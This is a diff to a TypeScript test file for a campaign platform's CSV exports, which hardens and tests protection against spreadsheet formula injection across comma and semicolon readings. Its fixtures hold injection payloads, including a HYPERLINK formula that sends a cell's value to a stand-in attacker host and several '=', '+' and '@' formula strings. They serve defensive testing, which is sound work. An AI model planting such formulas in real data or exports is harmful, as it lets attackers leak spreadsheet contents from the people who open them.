@@ -35,10 +35,25 @@ let campaignId: number;
 let data: RepresentativeData;
 
 type Csv = Array<Record<string, string>>;
+/** The cells of one CSV line as written, quotes and all (a separator inside quotes does not split). */
+function spreadsheetCellsRaw(line: string): string[] {
+  const cells = [''];
+  let quoted = false;
+  for (const char of line) {
+    if (char === '"') quoted = !quoted;
+    if (char === ',' && !quoted) cells.push('');
+    else cells[cells.length - 1] += char;
+  }
+  return cells;
+}
 const parseCsv = (text: string): Csv => parse(text, { columns: true, skip_empty_lines: false }) as Csv;
 
-/** What a spreadsheet must not read as a formula gets a leading apostrophe (the test's own rule). */
-const neutral = (value: string | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+/**
+ * What a spreadsheet must not read as a formula gets an apostrophe (the test's own rule): a value
+ * starting with = + - @, a tab or a carriage return, and each `,`- or `;`-separated fragment that
+ * does (past spaces and quote marks), as a reader splitting on `;` would see it.
+ */
+const neutral = (value: string | null) => (value === null ? '' : value.replace(/(^|[,;])([ "]*)([=+\-@\t\r])/g, "$1$2'$3"));
 
 const signers = [
   { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: 'formula@example.org', zip: '80010', optIn: true },
@@ -49,6 +64,10 @@ const signers = [
   { name: 'Grace Hopper', email: 'grace@example.org', zip: '20001', optIn: false },
   { name: 'Zoë Ünicode', email: 'zoe@example.org', zip: '80010', optIn: true, source: 'partner-x' },
   { name: 'No District', email: 'nodistrict@example.org', zip: '80999', optIn: true },
+  // Harmless as one `,`-separated cell; cells of their own to a reader splitting on `;`.
+  { name: 'Ana;=1+2;', email: 'semicolon@example.org', zip: '80010', optIn: true },
+  { name: 'Bo, +SUM(A1)', email: 'comma@example.org', zip: '80010', optIn: false },
+  { name: 'Cy;"@x";-3', email: 'quoted@example.org', zip: '80020', optIn: true, source: 'partner-x' },
 ];
 
 beforeAll(async () => {
@@ -56,7 +75,7 @@ beforeAll(async () => {
   campaignId = (await t.platform.campaigns.bySlug(slug))!.id;
   await importRepresentativeData(t.platform.db, path.join(__dirname, '..', 'fixtures', 'representatives'));
   data = (await t.platform.representatives.refresh())!;
-  await t.platform.db.execute(sql`INSERT INTO partners (campaign_id, name, source_code) VALUES (${campaignId}, '=Partner X', 'partner-x')`);
+  await t.platform.db.execute(sql`INSERT INTO partners (campaign_id, name, source_code) VALUES (${campaignId}, '=Partner X;+1', 'partner-x')`);
   for (const signer of signers) {
     await request(t.app).post(`/api/v1/campaigns/${slug}/signatures`).send(signer).expect(202);
   }
@@ -196,7 +215,8 @@ describe('direct exports (streamed in the response)', () => {
     const formula = signers[0]!;
     expect(formula.name.startsWith('=')).toBe(true);
     expect(rows.filter((row) => row.name!.includes('HYPERLINK')).map((row) => row.name)).toEqual([`'${formula.name}`]);
-    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",formula@example.org,`);
+    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","formula@example.org",`);
+    expect(rows.find((row) => row.email === 'semicolon@example.org')?.name).toBe("Ana;'=1+2;");
     expect(res.text.split('\n').some((line) => line.startsWith('=') || line.startsWith('"='))).toBe(false);
   });
 
@@ -258,13 +278,48 @@ describe('direct exports (streamed in the response)', () => {
       t.platform.db,
       sql`SELECT count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND source IS NULL`,
     );
-    const partnerNames: Record<string, string> = { 'partner-x': "'=Partner X" };
+    const partnerNames: Record<string, string> = { 'partner-x': "'=Partner X;'+1" };
     expect(sources).toEqual([
       ...bySource
         .sort((a, b) => b.count - a.count || a.key.localeCompare(b.key))
         .map(({ key, count }) => ({ source: key, partner: partnerNames[key] ?? '', signatures: String(count) })),
       { source: '', partner: "No source code (the campaign's own pages and links)", signatures: String(Number(none!.count)) },
     ]);
+  });
+
+  it('no export has a cell a spreadsheet would run, read with `,` or `;` as the separator', async () => {
+    /** The start of a cell a spreadsheet runs, past the spaces and quote marks a lenient reader leaves. */
+    const FORMULA = /^[ "]*[=+\-@\t\r]/;
+    /** As spreadsheets read a line: a quote mark opens or closes a quoted stretch (and is dropped); the separator splits outside one. */
+    const spreadsheetCells = (line: string, separator: string) => {
+      const cells = [''];
+      let quoted = false;
+      for (const char of line) {
+        if (char === '"') quoted = !quoted;
+        else if (char === separator && !quoted) cells.push('');
+        else cells[cells.length - 1] += char;
+      }
+      return cells;
+    };
+    for (const kind of ['signatures', 'congressional', 'state-upper', 'state-lower', 'state', 'source']) {
+      const text = (await postExport(organizer.agent, organizer.token, kind).expect(200)).text;
+      const readings: Record<string, string[]> = {
+        'csv-parse ,': (parse(text, { delimiter: ',' }) as string[][]).flat(),
+        'csv-parse ;': (parse(text, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][]).flat(),
+        'spreadsheet ,': text.split('\n').flatMap((line) => spreadsheetCells(line, ',')),
+        'spreadsheet ;': text.split('\n').flatMap((line) => spreadsheetCells(line, ';')),
+        // A reader that ignores quotes altogether and splits at both.
+        'split , and ;': text.split(/[\n,;]/),
+      };
+      for (const [reader, cells] of Object.entries(readings)) {
+        expect({ kind, reader, formulas: cells.filter((cell) => FORMULA.test(cell)) }).toEqual({ kind, reader, formulas: [] });
+      }
+      // Every text cell is quoted (the counts are numbers, empty cells are NULL).
+      // (No cell here holds a line feed: the lines are the rows.)
+      for (const line of text.split('\n').slice(1, -1)) {
+        for (const cell of spreadsheetCellsRaw(line)) expect({ kind, cell, quoted: /^"[^]*"$|^\d*$/.test(cell) }).toEqual({ kind, cell, quoted: true });
+      }
+    }
   });
 
   it('refuses an unknown export with a 400 and records nothing', async () => {
